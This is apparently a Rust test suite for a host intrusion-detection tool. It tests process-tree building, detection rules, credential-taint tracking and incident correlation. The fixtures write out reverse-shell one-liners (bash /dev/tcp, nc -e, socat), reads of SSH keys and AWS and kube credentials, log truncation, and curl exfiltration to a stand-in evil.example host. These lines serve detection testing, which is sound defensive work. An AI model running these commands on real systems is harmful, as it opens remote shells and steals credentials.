use labtrace::correlate::{correlate, keep_at_least, Incident};
use labtrace::event::Event;
use labtrace::proctree::ProcTree;
use labtrace::rules::{run, Severity};
use labtrace::taint::{analyze, source_kinds_for_path, TaintKind};
use std::collections::BTreeMap;

fn ev(seq: u64, pid: u32, ppid: u32, kind: &str, exe: &str, target: &str, cmdline: &str, uid: i64) -> Event {
    Event {
        seq,
        ts: String::new(),
        epoch: None,
        pid,
        ppid,
        uid,
        kind: kind.into(),
        exe: exe.into(),
        cmdline: cmdline.into(),
        target: target.into(),
        success: true,
        extra: BTreeMap::new(),
    }
}

fn tree_ev(pid: u32, ppid: u32, exe: &str) -> Event {
    ev(0, pid, ppid, "exec", exe, "", "", 0)
}

// ----------------------------------------------------------------- proctree

#[test]
fn ancestor_detection() {
    let evs = vec![tree_ev(1, 0, "/sbin/init"), tree_ev(100, 1, "/usr/sbin/sshd"), tree_ev(200, 100, "/bin/sh")];
    let t = ProcTree::build(&evs);
    assert!(t.is_ancestor(100, 200));
    assert!(t.is_ancestor(1, 200));
    assert!(!t.is_ancestor(200, 100));
}

#[test]
fn chain_renders() {
    let evs = vec![tree_ev(1, 0, "/sbin/init"), tree_ev(100, 1, "/usr/sbin/sshd"), tree_ev(200, 100, "/bin/sh")];
    let t = ProcTree::build(&evs);
    let s = t.chain_str(200);
    assert!(s.contains("sshd"));
    assert!(s.contains("sh(200)"));
}

#[test]
fn cycle_guard() {
    let evs = vec![tree_ev(7, 8, "/a"), tree_ev(8, 7, "/b")];
    let t = ProcTree::build(&evs);
    // must terminate, not hang
    let _ = t.chain(7);
    assert!(!t.is_ancestor(99, 7));
}

#[test]
fn chain_exact_value() {
    let evs = vec![tree_ev(1, 0, "/sbin/init"), tree_ev(100, 1, "/usr/sbin/sshd"), tree_ev(200, 100, "/bin/sh")];
    let t = ProcTree::build(&evs);
    // pid 0 is recorded as the parent of 1 but was never observed itself:
    // the chain leaves it out
    assert_eq!(t.chain(200), vec![1, 100, 200]);
    assert_eq!(t.chain_str(200), "init(1) → sshd(100) → sh(200)");
    // an unknown pid is its own chain
    assert_eq!(t.chain(4242), vec![4242]);
    assert_eq!(t.chain_str(4242), "?(4242)");
}

#[test]
fn acyclic_chain_has_no_repeats() {
    let evs = vec![tree_ev(1, 0, "/sbin/init"), tree_ev(100, 1, "/usr/sbin/sshd"), tree_ev(200, 100, "/bin/sh"), tree_ev(300, 200, "/bin/cat")];
    let t = ProcTree::build(&evs);
    let mut c = t.chain(300);
    assert_eq!(c, vec![1, 100, 200, 300]);
    c.sort();
    c.dedup();
    assert_eq!(c.len(), 4);
}

#[test]
fn cycle_chain_is_bounded() {
    let evs = vec![tree_ev(7, 8, "/a"), tree_ev(8, 7, "/b")];
    let t = ProcTree::build(&evs);
    // 65 parent links at most, then the pid itself
    assert_eq!(t.chain(7).len(), 66);
    assert_eq!(*t.chain(7).last().unwrap(), 7);
    assert!(t.is_ancestor(8, 7));
    assert!(t.is_ancestor(7, 7));
}

#[test]
fn self_parent_stops_chain() {
    let evs = vec![tree_ev(5, 5, "/x")];
    let t = ProcTree::build(&evs);
    assert_eq!(t.chain(5), vec![5]);
    assert!(t.is_ancestor(5, 5));
}

#[test]
fn latest_observation_wins() {
    let evs = vec![tree_ev(10, 1, "/old"), tree_ev(10, 2, ""), tree_ev(0, 3, "/ignored"), tree_ev(2, 9, "")];
    let t = ProcTree::build(&evs);
    assert_eq!(t.chain(10), vec![2, 10]);
    // an empty exe does not erase the known one; an observed process
    // without an exe is shown as `?`
    assert_eq!(t.chain_str(10), "?(2) → old(10)");
}

#[test]
fn chain_elements_are_ancestors() {
    let evs = vec![tree_ev(1, 0, "/sbin/init"), tree_ev(100, 1, "/usr/sbin/sshd"), tree_ev(200, 100, "/bin/sh")];
    let t = ProcTree::build(&evs);
    let c = t.chain(200);
    for p in &c[..c.len() - 1] {
        assert!(t.is_ancestor(*p, 200));
    }
}

// -------------------------------------------------------------------- rules

#[test]
fn detects_reverse_shell() {
    let evs = vec![ev(1, 10, 1, "exec", "/bin/bash", "", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 1000)];
    let f = run(&evs);
    assert!(f.iter().any(|x| x.rule_id == "LT001"));
}

#[test]
fn detects_key_access() {
    let evs = vec![ev(1, 10, 1, "file", "/bin/cat", "/home/u/.ssh/id_rsa", "cat id_rsa", 1000)];
    let f = run(&evs);
    assert!(f.iter().any(|x| x.rule_id == "LT004"));
}

#[test]
fn raw_ip_connection_flagged() {
    let evs = vec![ev(1, 10, 1, "net-connect", "curl", "185.199.108.153:443", "curl", 1000)];
    let f = run(&evs);
    assert!(f.iter().any(|x| x.rule_id == "LT006"));
}

#[test]
fn benign_event_silent() {
    let evs = vec![ev(1, 10, 1, "exec", "/usr/bin/ls", "", "ls -la", 1000)];
    assert!(run(&evs).is_empty());
}

#[test]
fn finding_fields_are_exact() {
    let evs = vec![ev(9, 77, 1, "exec", "/usr/bin/sudo", "", "sudo id", 1000)];
    let f = run(&evs);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule_id, "LT002");
    assert_eq!(f[0].title, "Privilege escalation attempt (sudo/su from non-root session)");
    assert_eq!(f[0].severity, Severity::High);
    assert_eq!(f[0].seq, 9);
    assert_eq!(f[0].pid, 77);
    assert_eq!(f[0].exe, "/usr/bin/sudo");
    assert_eq!(f[0].detail, "privilege escalation binary executed by non-root user");
    // root is not flagged
    assert!(run(&[ev(9, 77, 1, "exec", "/usr/bin/sudo", "", "sudo id", 0)]).is_empty());
}

#[test]
fn each_rule_fires_on_its_pattern() {
    let cases: Vec<(Event, &str)> = vec![
        (ev(1, 2, 1, "exec", "/bin/sh", "", "sh -c 'mkfifo /tmp/f; nc -e /bin/sh x & '", 5), "LT001"),
        (ev(1, 2, 1, "exec", "/bin/su", "", "su", 5), "LT002"),
        (ev(1, 2, 1, "user-add", "/usr/sbin/useradd", "eve", "useradd eve", 0), "LT003"),
        (ev(1, 2, 1, "file", "/bin/cat", "/home/u/.SSH/ID_ED25519", "cat", 5), "LT004"),
        (ev(1, 2, 1, "file", "/bin/cat", "/root/.kube/config", "cat", 5), "LT005"),
        (ev(1, 2, 1, "net-connect", "nc", "10.1.2.3:4444", "nc", 5), "LT006"),
        (ev(1, 2, 1, "file", "/bin/vi", "/etc/cron.d/job", "vi", 5), "LT007"),
        (ev(1, 2, 1, "exec", "/bin/systemctl", "", "SYSTEMCTL ENABLE evil", 5), "LT007"),
        (ev(1, 2, 1, "file", "/bin/sh", "/var/log/auth.log", "truncate -s0 /var/log/auth.log", 5), "LT008"),
        (ev(1, 2, 1, "exec", "/usr/bin/sqlite3", "", "sqlite3 app.db .dump", 5), "LT009"),
        (ev(1, 2, 1, "exec", "/bin/tar", "", "tar czf x.tgz /home/u", 5), "LT010"),
    ];
    for (e, id) in cases {
        let f = run(&[e]);
        assert!(f.iter().any(|x| x.rule_id == id), "expected {id}");
    }
}

#[test]
fn rule_edge_cases() {
    // a host name is not a raw IP; a failed connect is not flagged
    assert!(run(&[ev(1, 2, 1, "net-connect", "curl", "example.com:443", "curl", 5)]).is_empty());
    let mut failed = ev(1, 2, 1, "net-connect", "curl", "1.2.3.4:443", "curl", 5);
    failed.success = false;
    assert!(run(&[failed]).is_empty());
    // digits without a dot are not an IPv4 address
    assert!(run(&[ev(1, 2, 1, "net-connect", "curl", "1234:443", "curl", 5)]).is_empty());
    // "/dev/tcp/" without "sh" is not a reverse shell
    assert!(run(&[ev(1, 2, 1, "exec", "/x", "", "cat /dev/tcp/1.2.3.4/80", 5)]).is_empty());
}

#[test]
fn reverse_shell_primitives_without_background() {
    // each listed primitive next to a shell is flagged, with or without `&`
    for c in [
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat -e /bin/bash 10.0.0.1 4444",
        "socat EXEC:/bin/sh tcp:10.0.0.1:4444",
        "mkfifo /tmp/f; sh -i < /tmp/f",
        "sh -c 'exec 5<>/dev/tcp/10.0.0.1/4444'",
    ] {
        let f = run(&[ev(1, 10, 1, "exec", "/usr/bin/nc", "", c, 1000)]);
        assert!(
            f.iter().any(|x| x.rule_id == "LT001" && x.severity == Severity::Critical),
            "expected LT001 on {c}"
        );
    }
}

#[test]
fn failed_calls_raise_no_signal() {
    let mut add = ev(1, 10, 1, "user-add", "/usr/sbin/useradd", "bob", "useradd bob", 1000);
    add.success = false;
    assert!(run(&[add.clone()]).is_empty());
    let mut shell = ev(2, 10, 1, "exec", "/bin/bash", "", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 1000);
    shell.success = false;
    assert!(run(&[add, shell]).is_empty());
}

#[test]
fn failed_calls_leave_the_tree_alone() {
    let mut failed = tree_ev(100, 7, "/bin/evil");
    failed.success = false;
    let evs = vec![tree_ev(1, 0, "/sbin/init"), tree_ev(100, 1, "/usr/sbin/sshd"), failed, tree_ev(200, 100, "/bin/sh")];
    let t = ProcTree::build(&evs);
    assert_eq!(t.chain_str(200), "init(1) → sshd(100) → sh(200)");
    assert!(!t.is_ancestor(7, 200));
    let mut only = tree_ev(5, 1, "/x");
    only.success = false;
    let t = ProcTree::build(&[only]);
    assert_eq!(t.chain_str(5), "?(5)");
}

#[test]
fn findings_in_stream_then_rule_order() {
    let evs = vec![
        ev(1, 2, 1, "file", "/bin/cat", "/home/u/.ssh/authorized_keys", "cat", 5),
        ev(2, 3, 1, "user-add", "/usr/sbin/useradd", "eve", "", 0),
    ];
    let ids: Vec<&str> = run(&evs).iter().map(|f| f.rule_id).collect();
    assert_eq!(ids, vec!["LT004", "LT007", "LT003"]);
}

#[test]
fn severity_labels() {
    assert_eq!(Severity::Info.label(), "info");
    assert_eq!(Severity::Low.label(), "low");
    assert_eq!(Severity::Medium.label(), "medium");
    assert_eq!(Severity::High.label(), "high");
    assert_eq!(Severity::Critical.label(), "critical");
}

// -------------------------------------------------------------------- taint

#[test]
fn exfiltration_chain_detected() {
    let evs = vec![
        ev(1, 100, 1, "exec", "/bin/sh", "", "sh", 0),
        ev(2, 100, 1, "file", "/bin/cat", "/home/u/.aws/credentials", "cat ~/.aws/credentials", 0),
        ev(3, 100, 1, "file", "/bin/tar", "/tmp/staging.tar.gz", "tar -czf /tmp/staging.tar.gz", 0),
        ev(4, 100, 1, "net-connect", "/usr/bin/curl", "185.199.108.153:443", "curl https://evil.example", 0),
    ];
    let tree = ProcTree::build(&evs);
    let flows = analyze(&evs, &tree);
    assert!(flows.iter().any(|f| f.sink_kind == "net-exfil" && matches!(f.taint.kind, TaintKind::CloudCredentials)));
    assert!(flows.iter().any(|f| f.sink_kind == "archive-write"));
}

#[test]
fn clean_activity_has_no_flows() {
    let evs = vec![
        ev(1, 100, 1, "exec", "/usr/bin/curl", "", "curl example.com", 0),
        ev(2, 100, 1, "net-connect", "/usr/bin/curl", "93.184.216.34:443", "curl example.com", 0),
    ];
    let tree = ProcTree::build(&evs);
    assert!(analyze(&evs, &tree).is_empty());
}

#[test]
fn taint_inherits_to_child() {
    let evs = vec![
        ev(1, 50, 1, "file", "/bin/cat", "/home/u/.ssh/id_rsa", "cat id_rsa", 0),
        ev(2, 60, 50, "net-connect", "/usr/bin/wget", "10.0.0.9:8080", "wget", 0),
    ];
    let tree = ProcTree::build(&evs);
    let flows = analyze(&evs, &tree);
    assert!(flows.iter().any(|f| f.sink_pid == 60));
}

#[test]
fn flow_fields_are_exact() {
    let evs = vec![
        tree_ev(100, 1, "/bin/sh"),
        ev(2, 100, 1, "file", "/bin/cat", "/home/u/.aws/credentials", "cat", 0),
        ev(3, 100, 1, "file", "/bin/tar", "/tmp/out.ZIP", "zip", 0),
    ];
    let tree = ProcTree::build(&evs);
    let flows = analyze(&evs, &tree);
    assert_eq!(flows.len(), 1);
    let f = &flows[0];
    assert_eq!(f.taint.kind, TaintKind::CloudCredentials);
    assert_eq!(f.taint.origin_pid, 100);
    assert_eq!(f.taint.carrier, "");
    assert_eq!(f.sink_pid, 100);
    assert_eq!(f.sink_seq, 3);
    assert_eq!(f.sink_kind, "archive-write");
    assert_eq!(f.sink_target, "/tmp/out.ZIP");
    assert_eq!(f.chain, "tar(100)");
}

#[test]
fn flows_come_in_kind_order() {
    let evs = vec![
        ev(1, 7, 1, "file", "/bin/cat", "/home/u/.mozilla/cookies.sqlite", "cat", 0),
        ev(2, 7, 1, "file", "/bin/cat", "/home/u/id_rsa.pem", "cat", 0),
        ev(3, 7, 1, "net-connect", "/usr/bin/curl", "evil.example:443", "curl", 0),
    ];
    let tree = ProcTree::build(&evs);
    let kinds: Vec<TaintKind> = analyze(&evs, &tree).iter().map(|f| f.taint.kind).collect();
    assert_eq!(kinds, vec![TaintKind::Credentials, TaintKind::SessionToken]);
}

#[test]
fn exec_argument_carries_taint() {
    // a path in argv that names a sensitive source taints the exec'd process
    let evs = vec![
        ev(1, 30, 1, "exec", "/bin/tar", "", "tar -czf /tmp/x.tgz /home/u/.kube/config", 0),
        ev(2, 30, 1, "net-connect", "/usr/bin/curl", "1.2.3.4:443", "curl", 0),
    ];
    let tree = ProcTree::build(&evs);
    let flows = analyze(&evs, &tree);
    assert_eq!(flows.len(), 1);
    assert_eq!(flows[0].taint.kind, TaintKind::CloudCredentials);
    assert_eq!(flows[0].sink_kind, "net-exfil");
}

#[test]
fn failed_events_are_skipped() {
    let mut read = ev(1, 50, 1, "file", "/bin/cat", "/home/u/.ssh/id_rsa", "cat", 0);
    read.success = false;
    let evs = vec![read, ev(2, 50, 1, "net-connect", "/usr/bin/wget", "10.0.0.9:8080", "wget", 0)];
    let tree = ProcTree::build(&evs);
    assert!(analyze(&evs, &tree).is_empty());
}

#[test]
fn source_classifier_ignores_case() {
    let chars = |s: &str| s.chars().collect::<Vec<char>>();
    let p = "/home/u/.aws/credentials";
    assert_eq!(source_kinds_for_path(&chars(p)), vec![TaintKind::CloudCredentials]);
    assert_eq!(source_kinds_for_path(&chars(&p.to_ascii_uppercase())), vec![TaintKind::CloudCredentials]);
    assert_eq!(source_kinds_for_path(&chars("/HOME/U/.AWS/CREDENTIALS")), vec![TaintKind::CloudCredentials]);
    assert_eq!(source_kinds_for_path(&chars("/srv/Customer.CSV")), vec![TaintKind::PersonalData]);
    assert!(source_kinds_for_path(&chars("/tmp/notes.txt")).is_empty());
}

#[test]
fn source_paths_ignore_case() {
    let evs = vec![
        ev(1, 7, 1, "file", "/bin/cat", "/HOME/U/.AWS/CREDENTIALS", "cat", 0),
        ev(2, 7, 1, "net-connect", "/usr/bin/curl", "1.2.3.4:443", "curl", 0),
    ];
    let tree = ProcTree::build(&evs);
    let flows = analyze(&evs, &tree);
    assert_eq!(flows.len(), 1);
    assert_eq!(flows[0].taint.kind, TaintKind::CloudCredentials);
}

#[test]
fn flows_of_a_prefix_come_first() {
    let evs = vec![
        ev(1, 7, 1, "file", "/bin/cat", "/home/u/.ssh/id_rsa", "cat", 0),
        ev(2, 7, 1, "net-connect", "/usr/bin/curl", "1.2.3.4:443", "curl", 0),
        ev(3, 7, 1, "file", "/bin/cat", "/home/u/.aws/credentials", "cat", 0),
        ev(4, 7, 1, "net-connect", "/usr/bin/curl", "5.6.7.8:443", "curl", 0),
    ];
    let tree = ProcTree::build(&evs);
    let all = analyze(&evs, &tree);
    let first = analyze(&evs[..2], &tree);
    assert_eq!(first.len(), 1);
    assert_eq!(all.len(), 3);
    assert_eq!(all[0].sink_seq, first[0].sink_seq);
    assert_eq!(all[0].taint.kind, first[0].taint.kind);
    // the later event's flows follow, one per kind, in kind order
    let later: Vec<(u64, TaintKind)> = all[1..].iter().map(|f| (f.sink_seq, f.taint.kind)).collect();
    assert_eq!(later, vec![(4, TaintKind::Credentials), (4, TaintKind::CloudCredentials)]);
}

#[test]
fn flow_kinds_come_from_earlier_reads() {
    let evs = vec![
        ev(1, 7, 1, "file", "/bin/cat", "/srv/customer_export.csv", "cat", 0),
        ev(2, 8, 7, "exec", "/usr/bin/curl", "", "curl", 0),
        ev(3, 8, 7, "net-connect", "/usr/bin/curl", "1.2.3.4:443", "curl", 0),
        ev(4, 9, 1, "net-connect", "/usr/bin/curl", "1.2.3.4:443", "curl", 0),
    ];
    let tree = ProcTree::build(&evs);
    let flows = analyze(&evs, &tree);
    // only the child of the reader leaks, and only the kind that was read
    assert_eq!(flows.len(), 1);
    assert_eq!(flows[0].taint.kind, TaintKind::PersonalData);
    assert_eq!(flows[0].sink_seq, 3);
}

#[test]
fn taint_kind_labels() {
    assert_eq!(TaintKind::Credentials.label(), "credentials");
    assert_eq!(TaintKind::CryptoKey.label(), "crypto-key");
    assert_eq!(TaintKind::SessionToken.label(), "session-token");
    assert_eq!(TaintKind::CloudCredentials.label(), "cloud-credentials");
    assert_eq!(TaintKind::DatabaseDump.label(), "database-dump");
    assert_eq!(TaintKind::PersonalData.label(), "personal-data");
}

// ---------------------------------------------------------------- correlate

fn corr_ev(seq: u64, pid: u32, ppid: u32, kind: &str, exe: &str, target: &str, cmdline: &str) -> Event {
    ev(seq, pid, ppid, kind, exe, target, cmdline, 1000)
}

fn incidents_of(evs: &[Event]) -> Vec<Incident> {
    let tree = ProcTree::build(evs);
    let findings = run(evs);
    let flows = analyze(evs, &tree);
    correlate(evs, &tree, &findings, &flows)
}

#[test]
fn full_chain_becomes_critical_incident() {
    let evs = vec![
        corr_ev(1, 100, 1, "exec", "/bin/sh", "", "sh"),
        corr_ev(2, 100, 1, "file", "/bin/cat", "/home/u/.aws/credentials", "cat ~/.aws/credentials"),
        corr_ev(3, 100, 1, "exec", "/bin/tar", "/tmp/s.tar.gz", "tar -czf /tmp/s.tar.gz .aws"),
        corr_ev(4, 100, 1, "net-connect", "curl", "185.199.108.153:443", "curl https://x"),
    ];
    let tree = ProcTree::build(&evs);
    let findings = run(&evs);
    let flows = analyze(&evs, &tree);
    let incidents = correlate(&evs, &tree, &findings, &flows);
    assert_eq!(incidents.len(), 1);
    assert_eq!(incidents[0].severity, Severity::Critical);
    assert!(incidents[0].title.contains("exfiltration"));
    assert!(!incidents[0].taints.is_empty());
}

#[test]
fn lone_low_finding_is_noise() {
    let evs = vec![corr_ev(1, 100, 1, "net-connect", "curl", "93.184.216.34:443", "curl")];
    let tree = ProcTree::build(&evs);
    let findings = run(&evs);
    let incidents = correlate(&evs, &tree, &findings, &[]);
    assert!(incidents.is_empty());
}

#[test]
fn incident_fields_are_exact() {
    let evs = vec![
        corr_ev(1, 100, 1, "exec", "/bin/sh", "", "sh"),
        corr_ev(2, 100, 1, "file", "/bin/cat", "/home/u/.aws/credentials", "cat ~/.aws/credentials"),
        corr_ev(3, 100, 1, "exec", "/bin/tar", "/tmp/s.tar.gz", "tar -czf /tmp/s.tar.gz .aws"),
        corr_ev(4, 100, 1, "net-connect", "curl", "185.199.108.153:443", "curl https://x"),
    ];
    let inc = &incidents_of(&evs)[0];
    assert_eq!(inc.findings, vec!["LT005", "LT010", "LT006"]);
    assert_eq!(inc.taints, vec!["cloud-credentials"]);
    assert_eq!(inc.actors, vec![100]);
    assert_eq!(inc.seq_from, 2);
    assert_eq!(inc.seq_to, 4);
    // the primary (last most severe) finding is the archive, by pid 100
    assert_eq!(inc.chain, "curl(100)");
    assert_eq!(
        inc.title,
        "Data theft chain: Archive of sensitive scope created with exfiltration of cloud-credentials"
    );
    assert_eq!(
        inc.summary,
        "actor(s) [100]; evidence seq 2–4; signals: LT005, LT010, LT006; taint flows confirmed: cloud-credentials"
    );
}

#[test]
fn shared_chain_raises_severity() {
    // two medium signals under one root: one incident, raised to High
    let evs = vec![
        corr_ev(1, 10, 1, "file", "/bin/cat", "/root/.kube/config", "cat"),
        corr_ev(2, 11, 10, "exec", "/usr/bin/pg_dump", "", "pg_dump prod"),
    ];
    let incs = incidents_of(&evs);
    assert_eq!(incs.len(), 1);
    assert_eq!(incs[0].severity, Severity::High);
    assert_eq!(incs[0].actors, vec![10, 11]);
    assert_eq!(incs[0].title, "Suspicious activity chain: Database dump created + 1 more signal(s)");
    assert_eq!(incs[0].summary, "actor(s) [10, 11]; evidence seq 1–2; signals: LT005, LT009; no taint confirmation");
}

#[test]
fn incidents_sorted_most_severe_first() {
    // root 1: a lone Medium finding; root 2: a lone High finding
    let evs = vec![
        corr_ev(1, 10, 1, "file", "/bin/cat", "/root/.kube/config", "cat"),
        corr_ev(2, 20, 2, "user-add", "/usr/sbin/useradd", "eve", ""),
    ];
    let incs = incidents_of(&evs);
    assert_eq!(incs.len(), 2);
    assert_eq!(incs[0].severity, Severity::High);
    assert_eq!(incs[0].title, "User account created");
    assert_eq!(incs[1].severity, Severity::Medium);
    assert_eq!(incs[1].chain, "cat(10)");
}

#[test]
fn no_findings_no_incidents() {
    let evs = vec![
        corr_ev(1, 50, 1, "file", "/bin/cat", "/home/u/id_rsa.pem", "cat"),
        corr_ev(2, 50, 1, "net-connect", "/usr/bin/wget", "evil.example:8080", "wget"),
    ];
    let tree = ProcTree::build(&evs);
    let flows = analyze(&evs, &tree);
    assert!(!flows.is_empty());
    assert!(correlate(&evs, &tree, &[], &flows).is_empty());
}

#[test]
fn minimum_severity_filter() {
    let evs = vec![
        corr_ev(1, 10, 1, "file", "/bin/cat", "/root/.kube/config", "cat"),
        corr_ev(2, 20, 2, "user-add", "/usr/sbin/useradd", "eve", ""),
    ];
    let incs = incidents_of(&evs);
    let kept = keep_at_least(incs, Severity::High);
    assert_eq!(kept.len(), 1);
    assert_eq!(kept[0].severity, Severity::High);
    let incs = incidents_of(&evs);
    assert_eq!(keep_at_least(incs, Severity::Info).len(), 2);
}
